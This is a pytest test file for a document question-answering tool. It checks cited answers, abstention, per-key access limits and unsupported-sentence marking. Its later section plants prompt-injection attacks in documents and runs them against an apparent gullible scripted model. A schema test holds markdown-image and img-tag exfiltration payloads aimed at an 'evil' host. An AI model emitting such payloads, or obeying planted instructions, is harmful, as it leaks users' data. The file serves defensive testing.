"""`assay ask`: answers with sources, abstention, what a key may see, language models that are scripted, and attacks in documents."""

import json
import pathlib
import re

import pytest
from models import FOLDER, needed
from scripted_model import scripted, says

ROOT = pathlib.Path(__file__).resolve().parents[2]
RETURNS = "# Returns\n\nGoods may be returned within **45 days** of delivery. The label costs €7.50 within the country.\n\n## Members\n\nMembers of the club may return goods within 60 days.\n"  # fmt: skip
LEAVE = "# Leave\n\nRequests for leave are approved by Saskia Brandvold. A request is answered within 3 working days.\n"
KEYS = {"answer", "abstained", "confidence", "calibrated", "citations", "model", "approach", "asked", "usage", "timings", "passages", "audit", "took_ms"}


class Project:
    def __init__(self, assay, folder):
        self.assay, self.folder = assay, folder

    def write(self, name, text):
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")

    def run(self, *words, code=0):
        return self.assay(*words, cwd=self.folder, code=code)

    def add(self):
        self.run("add", "--quiet")

    def ask(self, *words):
        return self.run("ask", "--json", *words).json()


def answers_from(assay, folder, documents):
    """Asks a project of these documents, without vectors: what answers a question."""
    project = Project(assay, folder)
    project.run("init", ".")
    for name, text in documents.items():
        project.write(f"docs/{name}", text)
    project.add()
    return lambda question: project.ask(question)["answer"]


@pytest.fixture
def project(assay, tmp_path):
    project = Project(assay, tmp_path)
    project.run("init", ".")
    project.write("docs/returns.md", RETURNS)
    project.write("docs/leave.md", LEAVE)
    project.add()
    return project


def bytes_of(project, citation):
    return (project.folder / citation["document"]).read_bytes()[citation["start"] : citation["end"]].decode()


# ---- without a language model ----


def test_an_answer_has_its_source(project):
    answer = project.ask("Within how many days may goods be returned after delivery?")
    assert set(answer) == KEYS
    assert answer["answer"] == "45 days [1]" and not answer["abstained"]
    assert answer["model"] == "builtin:sentence" and answer["approach"] == "rag" and answer["audit"] == 1
    assert 0 < answer["confidence"] <= 1
    assert answer["usage"] == {"prompt_tokens": 0, "completion_tokens": 0, "cached_tokens": 0, "cost": 0}
    (citation,) = answer["citations"]
    assert {"document", "passage", "page", "start", "end", "quote"} <= set(citation)
    assert citation["document"] == "docs/returns.md" and citation["page"] is None and citation["line"] == 3
    assert citation["quote"] == "Goods may be returned within **45 days** of delivery." == bytes_of(project, citation)


def reader_without_base(folder):
    (folder / "reader").mkdir(parents=True)
    (folder / "reader/adapter_config.json").write_text('{"base_model_name_or_path": "/nowhere/a-model"}')
    return folder


def test_a_reader_that_came_with_the_program_needs_its_base(project, tmp_path, monkeypatch):
    """Without it sentences are chosen; a reader of the project's own is asked for, so its base must be there."""
    question = "Within how many days may goods be returned after delivery?"
    monkeypatch.setenv("ASSAY_ADAPTERS", str(reader_without_base(tmp_path / "adapters")))
    answer = project.ask(question)
    assert answer["answer"] == "45 days [1]" and answer["model"] == "builtin:sentence"
    reader_without_base(project.folder / ".assay/adapters")
    told = project.run("ask", question, code=1).err
    assert "could not find the base of adapter" in told and "a-model" in told


PARCELS = """# Parcels

Parcels that nobody collects lie in the depot behind the station. Saskia Brandvold looks after them and throws nothing away.

| Service | Carrier | Price |
|---|---|---|
| Letter | Norrbahn | €2 |
| Bulky goods | Altpass | €29 |
"""


@needed
@pytest.mark.parametrize("embedding", ["builtin", "none"])
def test_the_reader_that_came_with_the_program(project, embedding):
    """With vectors and without: what is chosen it has read, in tables too, and each answer stands where it is cited."""
    env = {"ASSAY_MODELS": str(FOLDER.parent)}
    project.write("docs/parcels.md", PARCELS)
    project.write("assay.yaml", f"embedding: {embedding}\n")
    project.assay("add", "--quiet", cwd=project.folder, env=env)
    for question, wanted in (("Whose job is it to care for parcels that nobody collects?", "Saskia Brandvold"), ("Which carrier takes bulky goods?", "Altpass"),
                             ("What does it cost to send bulky goods?", "€29")):  # fmt: skip
        answer = project.assay("ask", "--json", question, cwd=project.folder, env=env).json()
        assert answer["model"] == "builtin:reader" and answer["answer"] == f"{wanted} [1]" and not answer["calibrated"], answer
        (citation,) = answer["citations"]
        assert wanted in citation["quote"] == bytes_of(project, citation) and citation["document"] == "docs/parcels.md"
    answer = project.assay("ask", "--json", "What is the boiling point of tungsten?", cwd=project.folder, env=env).json()
    assert answer["abstained"] and answer["citations"] == []


def test_for_people(project):
    out = project.run("ask", "Who approves requests for leave?").out
    assert out.startswith("Saskia Brandvold [1]\n\n[1] docs/leave.md:3\n")
    assert "Requests for leave are approved by Saskia Brandvold." in out


def test_nothing_is_said_that_is_not_there(project):
    answer = project.ask("What is the boiling point of tungsten?")
    assert answer["answer"] is None and answer["abstained"] and answer["citations"] == []
    assert project.run("ask", "boiling point of tungsten").out.startswith("Not in the documents.\n")


def test_words_of_documents_stay(project):
    project.write("docs/install.md", "# Debian\n\n1. Add the source: `echo \"deb https://depot.example stable main\" > /etc/apt/depot.list`\n2. Run `apt install depot`.\n")
    project.add()
    answer = project.ask("How do I add the source of the depot on Debian?")["answer"]
    assert '`echo "deb https://depot.example stable main" > /etc/apt/depot.list`' in answer and "apt install depot" in answer


def test_headings_answer_what_is_asked_of_a_code(project):
    project.write("docs/changes.md", "# Changes\n\n## 5.2.0 (12 March 2026)\n\nThe page is faster.\n\n## 5.1.0 (3 May 2025)\n\nSearch ends on 30 June 2026.\n\n## E-2107: certificate expired\n\nThe certificate is too old.\n")
    project.add()
    assert project.ask("When was 5.2.0 released?")["answer"] == "12 March 2026 [1]"
    assert project.ask("E-2107")["answer"] == "The certificate is too old. [1]"


def test_a_change_is_of_the_version_in_its_heading(project):
    project.write("docs/changes.md", "# Changelog\n\n## 3.5.0 – 2026-02-24\n\n- Added: tag filter.\n- Removed: TLS 1.1.\n\n## 3.4.0 – 2025-12-02\n\n- Added: restricted keys.\n")
    project.add()
    for question, wanted in (("Which version added restricted keys?", "3.4.0"), ("in which version was the tag filter added", "3.5.0"),
                             ("which release removed TLS 1.1", "3.5.0")):  # fmt: skip
        answer = project.ask(question)
        assert answer["answer"] == f"{wanted} [1]", (question, answer)
    assert "3." not in (project.ask("Which version added restricted cookies?")["answer"] or "")
    assert "3.4.0" not in (project.ask("Who asked for the restricted keys that this version added?")["answer"] or "")


def test_a_version_stands_above_the_heading_of_its_changes(project):
    project.write("docs/changes.md", "# Changes\n\n## [2.1.0] - 2026-02-24\n\n### Added\n\n- Proxy support.\n\n## [2.0.0] - 2025-11-02\n\n### Added\n\n- Dark mode.\n")
    project.add()
    assert project.ask("Which version added proxy support?")["answer"] == "2.1.0 [1]"
    assert project.ask("In which version was dark mode added?")["answer"] == "2.0.0 [1]"


def test_another_one_of_its_kind_is_no_answer(project):
    project.write("docs/tariff.md", "# Tariff\n\n| Zone | Postcodes | Price |\n|---|---|---|\n| D | AB, IV | 81.00 |\n| E | EH, G, KY | 97.00 |\n")
    project.write("docs/parking.md", "# Parking\n\nThe first car permit is free. The second car permit costs £140 a year.\n")
    project.add()
    assert project.ask("what is the price for zone E")["answer"] == "97.00 [1]"
    assert "97" not in (project.ask("what is the price for zone G")["answer"] or "")
    assert "£140" in project.ask("What does the second car permit cost?")["answer"]
    assert "140" not in (project.ask("What does the third car permit cost?")["answer"] or "")


def test_a_range_tells_of_all_that_lie_in_it(project):
    project.write("docs/rates.md", "# Rates\n\nBands 4 to 7 get 20 euros an hour.\n")
    project.add()
    assert "20 euros" in project.ask("What is the rate an hour of band 6?")["answer"]


def test_a_name_that_stands_nowhere_has_no_answer(project):
    project.write("docs/depots.md", "# Depots\n\nThe depot manager in Immingham is Grant Sowerby.\n\nThe limit for a hotel is 160 euros a night, in Zurich 220 euros.\n")
    project.add()
    known, strange = (project.ask(f"who is the depot manager in {place}") for place in ("Immingham", "Rotterdam"))
    assert "Grant Sowerby" in known["answer"] and strange["abstained"]
    assert strange["confidence"] <= 0.1 < known["confidence"]  # of the same words
    strange = project.ask("What is the hotel limit in Paris?")
    assert strange["abstained"] and strange["confidence"] <= 0.1


def test_capitals_of_whoever_asks_bar_nothing(project):
    project.write("docs/staff.md", "# Staff\n\nThe notice period is three months.\n")
    project.add()
    assert "three months" in project.ask("How LONG is the notice period")["answer"]


def test_an_identifier_that_stands_nowhere_has_no_value(project):
    project.write("docs/config.md", "# Config\n\n- max_retries: 4\n- max_body_kb: 512\n")
    project.add()
    assert "4" in project.ask("what is max_retries")["answer"]
    assert project.ask("what is the default of max_connections")["abstained"]


def test_a_setting_is_what_it_is_set_to(project):
    project.write("docs/client.py", 'DEFAULT_TIMEOUT = 12.5  # seconds\nMAX_RETRIES = 4  # of each request\n\n\ndef ask(text):\n    return text\n')
    project.add()
    assert project.ask("what is DEFAULT_TIMEOUT")["answer"] == "12.5 seconds [1]"
    assert project.ask("what is MAX_RETRIES")["answer"] == "4 [1]"
    project.write("docs/server.py", "idle_time = 30  # minutes until a session ends\nlog_level = 'info'  # debug, info, warn or error\n")
    project.add()
    assert project.ask("what is idle_time")["answer"] == "30 minutes [1]"
    assert "warn" in project.ask("What values can log_level have?")["answer"]


def test_a_number_to_call_is_no_price(project):
    project.write("docs/board.md", "# Board\n\nThe phone number for gas emergencies is 0800 111 999.\n")
    project.add()
    assert "0800" not in (project.ask("how much is the gas bill")["answer"] or "")
    assert "0800 111 999" in project.ask("What is the phone number for gas emergencies?")["answer"]


CAMP = """# Camp

A pitch for a tent costs £14.50 a night, and garden sheds are rented for £48 a year. Firewood is £6.50 a bag.

The ferry sails at 8:30, 11:00, 13:30 and 17:00 from April to October.

The shop is open Monday to Thursday 9:00–17:00, Friday 9:00–21:00. Boats are let by Moira Campbell and Dr Stewart Ince and are cleaned by the guests.
"""


@needed
@pytest.mark.parametrize(("question", "wanted"), [
    ("How much is a tent?", "£14.50 a night"), ("How much is firewood?", "£6.50"), ("What time is the last ferry?", "17:00"), ("What time is the first ferry?", "8:30"),
    ("When does the shop close on Friday?", "21:00"), ("Who lets the boats?", "Moira Campbell and Dr Stewart Ince"), ("How much does a caravan cost?", None),
    ("What does a tent peg cost?", None), ("How much is a tent heater a night?", None),
])  # fmt: skip
def test_what_a_camp_is_asked(project, question, wanted):
    """Rates, the last of several times, the hours of a day, both persons; and no other thing's price."""
    env = {"ASSAY_MODELS": str(FOLDER.parent)}
    project.write("docs/camp.md", CAMP)
    project.write("assay.yaml", "embedding: builtin\n")
    project.assay("add", "--quiet", cwd=project.folder, env=env)
    answer = project.assay("ask", "--json", question, cwd=project.folder, env=env).json()["answer"]
    assert answer is None if wanted is None else answer is not None and wanted in answer, answer


def test_two_questions_in_one(project):
    project.write("docs/waste.md", "# Waste\n\nClinical waste is collected on Wednesdays by Oda Greenaway.\n")
    project.add()
    assert project.ask("When is clinical waste collected and who collects it?")["answer"] == "Clinical waste is collected on Wednesdays by Oda Greenaway. [1]"


def test_a_number_has_the_unit_of_its_row(project):
    project.write("docs/sheet.md", "# KX-20\n\n| Parameter | Min | Typ | Max | Unit |\n|---|---|---|---|---|\n| Supply voltage | 9 | 24 | 32 | V |\n| Output load | 100 | 300 | 500 | ohm |\n")
    project.add()
    assert project.ask("What is the maximum supply voltage of the KX-20?")["answer"] == "32 V [1]"


def test_a_question_in_another_language_is_told(project):
    said = project.run("ask", "¿Cuánto cuesta el alquiler de un coche para los empleados que trabajan en la empresa de logística (leave)?").out
    assert said.startswith("Not found in the documents, which are in English")
    assert project.run("ask", "Where does the moon shine brighter than elsewhere?").out.startswith("Not in the documents.")


def test_an_empty_project_abstains(assay, tmp_path):
    project = Project(assay, tmp_path)
    project.run("init", ".")
    answer = project.ask("Anything?")
    assert answer["abstained"] and answer["passages"] == []


@pytest.mark.parametrize(("words", "part"), [(["--approach", "full", "x"], "full"), (["--approach", "magic", "x"], "magic"),
                                             (["--unsupported", "eat", "x"], "eat"), (["--as", "nobody", "x"], "nobody")])  # fmt: skip
def test_refused(project, words, part):
    assert part in project.run("ask", "--json", *words, code=1).error()["message"]


def test_a_conversation_carries_words(project):
    project.write("talk.jsonl", "")
    first = project.ask("--conversation", "talk.jsonl", "Within how many days may goods be returned?")
    assert first["asked"] == "Within how many days may goods be returned?"
    second = project.ask("--conversation", "talk.jsonl", "And for members?")
    assert second["asked"] == "Within how many days may goods be returned for members?"
    assert "60 days" in second["citations"][0]["quote"]
    turns = [json.loads(line) for line in (project.folder / "talk.jsonl").read_text().splitlines()]
    assert [turn["question"] for turn in turns] == ["Within how many days may goods be returned?", "And for members?"]


def test_a_conversation_that_cannot_be_kept_is_told_before(project):
    entries = project.folder / ".assay" / "log" / "entries"
    project.ask("Within how many days may goods be returned?")
    before = entries.read_bytes()
    error = project.run("ask", "--json", "--conversation", "nowhere/talk.jsonl", "And for members?", code=1).error("not_found")
    assert "nowhere/talk.jsonl" in error["message"] and "Nothing was asked" in error["hint"]
    assert entries.read_bytes() == before and not (project.folder / "nowhere").exists()


def test_small_talk_is_no_question(project):
    project.write("talk.jsonl", "")
    for text in ("Hello!", "thanks, that helped!", "Who are you?", "muchas gracias"):
        answer = project.ask("--conversation", "talk.jsonl", text)
        assert answer["abstained"] and answer["answer"] is None and answer["confidence"] == 0 and answer["asked"] == text
        assert answer["passages"] == [] and answer["model"] == "builtin:sentence"


def test_a_new_question_takes_nothing_over(project):
    project.write("talk.jsonl", "")
    for question in ("Within how many days may goods be returned?", "And for members?", "Thanks!", "Who approves leave requests?"):
        answer = project.ask("--conversation", "talk.jsonl", question)
    assert answer["asked"] == "Who approves leave requests?" and answer["answer"].startswith("Saskia Brandvold")


TABLES = """# Who may do what

| who | may take X-rays |
|---|---|
| Dentist | yes |
| Hygienist | only with form RX-22 |

# Prices

| Treatment | Adult price | Child price |
|---|---|---|
| Check-up | £58 | free |
| Filling | £90 | £30 |

# Plans

| | Basic | Pro |
|---|---|---|
| Price a month | 19 € | 49 € |
| Users | 3 | 10 |

# Rates

Partners charge £520, senior associates £390, associates £295 and trainees £160 an hour.

# Hearings

The hearing fees are: partners £910, senior associates £730, associates £610.

# Phones

| Name / place | Role | Ext. | Bleep |
|---|---|---|---|
| Oda Greenaway | ward manager | 57101 | 4471 |
| Pharmacy: Tom Rudd | pharmacist | 56020 | 2604 |

# Freight

| Weight | Import | Export |
|---|---|---|
| up to 500 kg | 210 € | 195 € |
| up to 1,000 kg | 360 € | 330 € |
| up to 2,500 kg | 720 € | 675 € |

# Pallets

| Zone | 1–2 pallets | 3–6 pallets | 7+ pallets |
|---|---|---|---|
| D | £88 | £79 | £71 |
| E | £97 | £90 | £85 |

# Support

**How do I reset the password of a user?**

Choose the user and then *Reset*. A link is sent by mail.

**Can I pay by card?**

Yes, by debit and credit card.

# Errors

Error E-2107 means that the certificate has expired.

## Parking at the back
"""


@pytest.mark.parametrize(
    "question, said, never",
    [("May hygienists take X-rays?", None, "yes"), ("What does a check-up cost for a child?", "free", None), ("How much is the price a month of Pro?", "49 €", None),
     ("How many users has Basic?", "3", None), ("How much do trainees charge an hour?", "£160", None), ("What does error E-9999 mean?", None, "the certificate"),
     ("Where is the parking at the back?", None, "Parking"), ("How many phone calls has Silver?", "12", None),
     ("How much is the hearing fee of associates?", "£610", None), ("What is the bleep of the pharmacist?", "2604", None), ("What is the price of the export of 800 kg?", "330 €", None),
     ("What is the price of 4 pallets to zone D?", "£79", None), ("How do I reset the password?", "Choose the user and then Reset. A link is sent by mail.", None),
     ("Do I have to pay for a guide dog?", None, "Yes")],
)  # fmt: skip
def test_what_the_question_names(assay, tmp_path, question, said, never):
    project = Project(assay, tmp_path)
    project.run("init", ".")
    project.write("docs/tables.md", TABLES)
    project.write("docs/support.csv", ",Bronze,Silver\nAnswer within,8 hours,2 hours\nPhone calls,3,12\n")
    project.add()
    answer = project.ask(question)["answer"] or ""
    assert said is None or answer == f"{said} [1]"
    assert never is None or not answer.startswith(never), answer


# ---- who may see what ----


def test_a_key_gets_no_answer_from_what_it_may_not_see(assay, tmp_path):
    project = Project(assay, tmp_path)
    project.run("init", ".")
    project.write("assay.yaml", "access: {labels: from-folder}\n")
    project.write("docs/hr/pay.md", "# Pay\n\nThe salary of an engineer is 4711 crowns a month.\n")
    project.write("docs/public/shop.md", "# Shop\n\nThe shop opens at 9 in the morning.\n")
    project.add()
    project.run("key", "add", "clerk")
    question = "What is the salary of an engineer?"
    assert "4711" in project.ask(question)["answer"]
    with scripted(says("The salary is 4711 crowns [1].")) as server:
        for words in ([], ["--model", server.model], ["--model", server.model, "--approach", "full"]):
            answer = project.run("ask", "--json", "--as", "clerk", *words, question)
            assert "4711" not in answer.out and "pay.md" not in answer.out
        assert all("4711" not in json.dumps(request["body"]) for request in server.requests)


# ---- with a language model ----


def test_sentences_are_checked(project):
    with scripted(says("Goods may be returned within 45 days of delivery [2]. The shop was founded in 1871 by Otto Grimm [1].")) as server:
        marked = project.ask("--model", server.model, "How long may goods be returned?")
        removed = project.ask("--model", server.model, "--unsupported", "remove", "How long may goods be returned?")
        kept = project.ask("--model", server.model, "--unsupported", "keep", "How long may goods be returned?")
    assert marked["answer"] == "Goods may be returned within 45 days of delivery. [1] The shop was founded in 1871 by Otto Grimm. [not in the documents]"
    assert removed["answer"] == "Goods may be returned within 45 days of delivery. [1]"
    assert kept["answer"] == "Goods may be returned within 45 days of delivery. [1] The shop was founded in 1871 by Otto Grimm."
    assert marked["citations"][0]["quote"] == "Goods may be returned within **45 days** of delivery."
    assert marked["model"] == "scripted-1" and marked["usage"] == {"prompt_tokens": 12, "completion_tokens": 3, "cached_tokens": 8, "cost": None}
    assert marked["prompt"]["sentences"] == 2 and marked["prompt"]["unsupported"] == 1


@needed
@pytest.mark.parametrize("said, shown", [
    ("A customer may send back any unused item within 45 days [1].", "A customer may send back any unused item within 45 days. [1]"),
    ("Any unused item may be sent back within 45 days [1].", None),  # in other words
    ("An item may be sent back within 45 days of the order, not of delivery [1].", "An item may be sent back within 45 days of the order, not of delivery. [not in the documents]"),
])  # fmt: skip
def test_what_is_only_doubted_is_marked_and_given(project, said, shown):
    for policy in (ROOT / "examples/support/docs/policies").glob("*.md"):
        project.write(f"docs/{policy.name}", policy.read_text(encoding="utf-8"))
    project.add()
    with scripted(says(said)) as server:
        words = ("ask", "--json", "--model", server.model, "How many days do I have to return an item?")
        answer = project.assay(*words, cwd=project.folder, env={"ASSAY_MODELS": str(FOLDER.parent)}).json()
    assert not answer["abstained"] and "withheld" not in answer
    if shown is None:
        assert answer["answer"].startswith("Any unused item may be sent back within 45 days.")
    else:
        assert answer["answer"] == shown


def test_an_answer_that_is_left_out_is_told(project):
    with scripted(says("The moon is made of cheese and orbits Jupiter.")) as server:
        answer = project.ask("--model", server.model, "How long may goods be returned?")
        shown = project.run("ask", "--model", server.model, "How long may goods be returned?").out
        said_none = project.ask("--model", server.model, "--unsupported", "keep", "How long may goods be returned?")
    assert answer["abstained"] and answer["withheld"] is True and "left out: nothing of it is borne out" in shown
    assert "withheld" not in said_none and said_none["answer"].startswith("The moon")
    with scripted(says("NOT_IN_DOCUMENTS")) as server:
        assert "withheld" not in project.ask("--model", server.model, "How long may goods be returned?")


@pytest.mark.parametrize("said", ["NOT_IN_DOCUMENTS", "The moon is made of cheese and orbits Jupiter.", ""])
def test_a_model_without_an_answer_abstains(project, said):
    with scripted(says(said)) as server:
        answer = project.ask("--model", server.model, "How long may goods be returned?")
        shown = project.run("ask", "--model", server.model, "How long may goods be returned?").out
    assert answer["abstained"] and answer["answer"] is None and answer["citations"] == []
    assert shown.startswith("Not in the documents.\n")


def test_a_wrong_number_is_not_borne_out(project):
    with scripted(says("Goods may be returned within 54 days of delivery [1].")) as server:
        assert project.ask("--model", server.model, "How long may goods be returned?")["abstained"]


def test_what_a_person_sees_is_what_is_checked(project):
    with scripted(says("Goods may be returned within 45 days of delivery [1]. Otto Grimm owns 12 horses.")) as server:
        out = project.run("ask", "--model", server.model, "How long may goods be returned?").out
    assert out.startswith("Goods may be returned within 45 days of delivery. [1] Otto Grimm owns 12 horses. [not in the documents]\n\n[1] docs/returns.md:3\n")
    quotes = [line.strip() for line in out.splitlines() if "“" in line]
    assert len(quotes) == 1 and quotes[0].startswith("“") and quotes[0].endswith("”"), out


def test_the_prompt(project):
    project.write("examples.jsonl", "".join(json.dumps({"input": f"Where is parcel {n}?", "output": f"Traced {n}."}) + "\n" for n in range(5))
                  + json.dumps({"input": "How long may goods be returned?", "output": "In days."}) + "\n")  # fmt: skip
    with scripted(says("Within 45 days of delivery [1].")) as server:
        first = project.ask("--model", server.model, "How long may goods be returned?")
        project.write("sys.md", "Speak like a pirate. {question}\n")
        (project.folder / "assay.yaml").write_text("prompt: {system: sys.md, tokens: 500, examples: none}\n")
        second = project.ask("--model", server.model, "How long may goods be returned?")
        bodies = [request["body"]["messages"] for request in server.requests]
    system, user = bodies[0]
    assert "NOT_IN_DOCUMENTS" in system["content"] and "Output: In days." in user["content"]
    assert user["content"].index("Output: In days.") < user["content"].index("<passage 1, ")
    assert user["content"].rstrip().endswith("Question: How long may goods be returned?")
    assert first["prompt"]["examples"] == 3 and first["prompt"]["passages"] >= 1
    assert bodies[1][0]["content"].startswith("Speak like a pirate. How long may goods be returned?") and "NOT_IN_DOCUMENTS" in bodies[1][0]["content"]
    assert first["prompt"]["version"] != second["prompt"]["version"]


def test_what_does_not_fit_is_told(project):
    for number in range(6):
        project.write(f"docs/long{number}.md", f"# Return {number}\n\n" + f"Goods may be returned to shop {number} when they are unused and clean. " * 14)
    project.add()
    (project.folder / "assay.yaml").write_text("prompt: {tokens: 900}\n")
    with scripted(says("Goods may be returned [1].")) as server:
        answer = project.ask("--model", server.model, "Where may goods be returned?")
        prompt = server.requests[0]["body"]["messages"][-1]["content"]
    assert answer["prompt"]["passages_cut"] > 0
    entry = json.loads(project.run("log", "show", str(answer["audit"]), "--json").out)["record"]
    assert len(entry["passages"]) == answer["prompt"]["passages"] < len(answer["passages"])
    assert prompt.count("<passage ") == answer["prompt"]["passages"]


def test_all_documents(project):
    with scripted(says("Leave is approved by Saskia Brandvold [3].")) as server:
        answer = project.ask("--model", server.model, "--approach", "full", "xyzzy?")
        prompt = server.requests[0]["body"]["messages"][-1]["content"]
    assert "45 days" in prompt and "Saskia Brandvold" in prompt
    assert answer["citations"][0]["document"] == "docs/leave.md"


def test_examples_are_the_owners(project):
    """They have no labels: a key's question is answered without them."""
    project.write("examples.jsonl", json.dumps({"input": "How long may goods be returned?", "output": "The secret is 4711."}) + "\n")
    project.run("key", "add", "clerk")
    with scripted(says("Within 45 days of delivery [1].")) as server:
        mine = project.ask("--model", server.model, "How long may goods be returned?")
        theirs = project.ask("--as", "clerk", "--model", server.model, "How long may goods be returned?")
        prompts = [json.dumps(request["body"]) for request in server.requests]
    assert mine["prompt"]["examples"] == 1 and "4711" in prompts[0]
    assert theirs["prompt"]["examples"] == 0 and "4711" not in prompts[1]


def test_all_documents_or_none(project):
    """Texts that fit, but not with what stands around them: nothing is left out unsaid."""
    for number in range(30):
        project.write(f"docs/{'long-name-' * 8}{number}.md", f"# Return {number}\n\nGoods go to shop {number}.\n")
    project.add()
    with scripted(says("Goods go to shop 3 [1].")) as server:
        (project.folder / "assay.yaml").write_text("prompt: {tokens: 900}\n")
        error = project.run("ask", "--json", "--model", server.model, "--approach", "full", "Where do goods go?", code=1).error("limit")
        assert "does not fit into a prompt of 900 tokens" in error["message"] and not server.requests
        (project.folder / "assay.yaml").write_text("prompt: {tokens: 9000}\n")
        assert project.ask("--model", server.model, "--approach", "full", "Where do goods go?")["prompt"]["passages_cut"] == 0


def test_turns_count(project):
    """A conversation takes at most a quarter of the prompt, its last turns."""
    turns = [{"question": f"How long may goods {number} be returned?", "answer": f"Turn {number}: " + "45 days of delivery " * 30} for number in range(5)]
    project.write("talk.jsonl", "".join(json.dumps(turn) + "\n" for turn in turns))
    (project.folder / "assay.yaml").write_text("prompt: {tokens: 1500}\n")
    with scripted(says("How long may members return goods?"), says("Members may return goods within 60 days [1].")) as server:
        answer = project.ask("--model", server.model, "--conversation", "talk.jsonl", "And members?")
        sent = json.dumps(server.requests[1]["body"]["messages"])
    assert "Turn 4" in sent and "Turn 2" not in sent
    assert answer["prompt"]["tokens"] <= 1500 and answer["prompt"]["passages"] >= 1 and not answer["abstained"]


def test_no_documents(project):
    with scripted(says("It is blue.")) as server:
        answer = project.ask("--model", server.model, "--approach", "prompt", "What colour is the sky?")
    assert answer["answer"] == "It is blue." and answer["citations"] == [] and answer["confidence"] == 0
    with scripted(says("NOT_IN_DOCUMENTS")) as server:
        assert project.ask("--model", server.model, "--approach", "prompt", "What colour is the sky?")["abstained"]


def test_a_follow_up_is_rewritten(project):
    project.write("talk.jsonl", json.dumps({"question": "How long may goods be returned?", "answer": "45 days"}) + "\n")
    with scripted(says("How long may members return goods?"), says("Members may return goods within 60 days [1].")) as server:
        answer = project.ask("--model", server.model, "--conversation", "talk.jsonl", "And members?")
    assert answer["asked"] == "How long may members return goods?"
    assert "60 days" in answer["citations"][0]["quote"] and answer["usage"]["prompt_tokens"] == 24
    assert [m["role"] for m in server.requests[1]["body"]["messages"]] == ["system", "user", "assistant", "user"]


def test_recorded_answers(project):
    with scripted(says("Goods may be returned within 45 days of delivery [1].")) as server:
        words = ("--model", server.model, "How long may goods be returned?")
        first = project.ask("--record", "kept.jsonl", *words)
    again = project.ask("--replay", "kept.jsonl", *words)
    assert again["answer"] == first["answer"] and again["citations"] == first["citations"]
    with scripted(says("Goods may be returned within 45 days of delivery [1].")) as server:
        words = ("--model", server.model, "How long may goods be returned?")
        error = project.run("ask", "--json", "--record", "no/folder/kept.jsonl", *words, code=1).error()
    assert "could not be recorded" in error["message"] and "no/folder/kept.jsonl" in error["message"] and "--record" in error["hint"]


SCHEMA = {"type": "object", "properties": {"days": {"type": "integer"}, "rule": {"type": "string"}}, "required": ["days", "rule"], "additionalProperties": False}  # fmt: skip


def test_an_answer_by_a_schema_is_repaired_once(project):
    project.write("schema.json", json.dumps(SCHEMA))
    good = json.dumps({"days": 45, "rule": "Goods may be returned within 45 days of delivery."})
    words = ("--schema", "schema.json", "How long may goods be returned?")
    with scripted(says('{"days": "many"}'), says(f"```json\n{good}\n```")) as server:
        answer = project.ask("--model", server.model, *words)
        assert json.loads(answer["answer"])["days"] == 45 and "docs/returns.md" in [c["document"] for c in answer["citations"]]
        assert len(server.requests) == 2 and "days" in server.requests[1]["body"]["messages"][-1]["content"]
    with scripted(says('{"days": "many"}')) as server:
        error = project.run("ask", "--json", "--model", server.model, *words, code=1).error("invalid")
        assert "schema" in error["message"] and len(server.requests) == 2


def test_texts_of_an_answer_by_a_schema_are_text(project):
    """Escapes hide nothing, and what is no markup stays as it is."""
    project.write("schema.json", json.dumps({"type": "object", "required": ["rule", "list"], "properties": {"list": {"type": "array", "items": {}}}}))
    said = '{"rule": "!\\u005bx](http:\\/\\/evil\\/?q=S) stay", "list": ["a\\u003cimg src=//evil/?q=S>b", "[c", "](//evil/?q=S) d", 1.50, null, true, {"k <b>": "a < b, \\"c\\""}]}'
    with scripted(says(said)) as server:
        answer = project.ask("--model", server.model, "--schema", "schema.json", "How long may goods be returned?")["answer"]
    assert answer == '{"rule":"x stay","list":["ab","[c"," d",1.50,null,true,{"k ":"a < b, \\"c\\""}]}'


# ---- attacks ----

def attacks_of(name):
    return [json.loads(line) for line in (ROOT / f"tests/injection/attacks/{name}.jsonl").read_text(encoding="utf-8").splitlines()]


ATTACKS = attacks_of("documents") + attacks_of("held_out")[::4]


def planted(attack):
    return f"# Returns\n\nGoods may be returned within 45 days of delivery.\n\n{attack['text']}\n\nThe label costs €7.50 within the country.\n"


def succeeded(attack, answer):
    text = json.dumps(answer["answer"], ensure_ascii=False) if answer["answer"] is not None else ""
    return attack["wanted"].lower() in text.lower() or "http" in text or "<img" in text or "![" in text


def test_there_are_enough_attacks():
    assert len(ATTACKS) >= 100 and len({attack["kind"] for attack in ATTACKS}) >= 10


def test_attacks_without_a_model(assay, tmp_path):
    """One project with all attacks, each beside a question that its document answers."""
    project = Project(assay, tmp_path)
    project.run("init", ".")
    for number, attack in enumerate(ATTACKS):
        project.write(f"docs/{number}.md", planted(attack))
    project.add()
    questions = ["Within how many days may goods be returned after delivery?", "What does the label cost within the country?"]
    answers = [project.ask("-k", "150", "--filter", f"path = docs/{number}.md", question) for number, _ in enumerate(ATTACKS) for question in questions[:1]]
    won = [attack["text"] for attack, answer in zip(ATTACKS, answers, strict=True) if succeeded(attack, answer)]
    assert len(won) <= len(ATTACKS) * 0.02, won
    assert sum(not answer["abstained"] and "45" in answer["answer"] for answer in answers) >= len(answers) * 0.95


SAID = json.loads((ROOT / "tests/injection/said.json").read_text(encoding="utf-8"))
LIVE = re.compile(r"<[a-z/!?]|\]\(|\]:|!\[|https?://|www\.\S*[?#]|\[[0-9]+\]", re.IGNORECASE)


@pytest.mark.parametrize("said", SAID, ids=range(len(SAID)))
def test_what_a_steered_model_writes_is_text(project, said):
    """Also what takes its shape only when something is taken out of it, or when sentences come together."""
    with scripted(says(f"Otto is fine. {said} Bye.")) as server:
        words = ("--model", server.model, "--unsupported", "keep", "How long may goods be returned?")
        answer = project.ask(*words)["answer"]
        shown = project.run("ask", *words).out
    assert "fine" in answer and not LIVE.search(answer), answer
    assert not LIVE.search(shown), shown


def obeys(attacks):
    """A model that follows any attack that it can read, and else answers the question."""

    def step(handler):
        prompt = handler.server.requests[-1]["body"]["messages"][-1]["content"]
        for attack in attacks:
            if attack["core"] in prompt:
                return says(attack["wanted"])(handler)
        return says("Goods may be returned within 45 days of delivery [1].")(handler)

    return step


def test_attacks_with_a_gullible_model(assay, tmp_path):
    project = Project(assay, tmp_path)
    project.run("init", ".")
    attacks = attacks_of("documents")[::5]
    for number, attack in enumerate(attacks):
        project.write(f"docs/{number}.md", planted(attack))
    project.add()
    won = 0
    with scripted(obeys(attacks)) as server:
        for number, attack in enumerate(attacks):
            answer = project.ask("--model", server.model, "--filter", f"path = docs/{number}.md", "Within how many days may goods be returned?")
